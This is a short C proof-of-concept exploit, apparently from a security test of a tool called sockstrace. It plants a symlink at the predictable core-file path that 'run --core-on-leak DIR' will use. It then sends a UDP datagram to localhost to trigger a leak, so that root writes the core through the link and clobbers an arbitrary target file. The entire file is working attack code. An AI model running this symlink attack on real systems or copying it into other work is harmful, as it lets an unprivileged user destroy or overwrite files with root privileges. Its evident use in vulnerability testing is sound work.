/* Plants a symlink where `run --core-on-leak DIR` will write the core file
 * of its first leak (DIR/sockstrace-leak-PID-1.PID, all of it known to the
 * program), pointing at TARGET, then leaks one UDP datagram to
 * 127.0.0.1:PORT. If the core is written through the link, whoever writes
 * it (root) clobbers TARGET for the program.
 * usage: attack2_coresym DIR TARGET PORT */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 4)
        return 2;
    char path[4096];
    int pid = (int)getpid();
    snprintf(path, sizeof path, "%s/sockstrace-leak-%d-1.%d", argv[1], pid, pid);
    if (symlink(argv[2], path) != 0) {
        perror("symlink");
        return 1;
    }
    printf("planted %s\n", path);
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0)
        return 1;
    struct sockaddr_in to;
    memset(&to, 0, sizeof to);
    to.sin_family = AF_INET;
    to.sin_port = htons((unsigned short)atoi(argv[3]));
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ssize_t n = sendto(s, "coresym", 7, 0, (struct sockaddr *)&to, sizeof to);
    printf("sendto %zd\n", n);
    fflush(stdout);
    close(s);
    return 0;
}
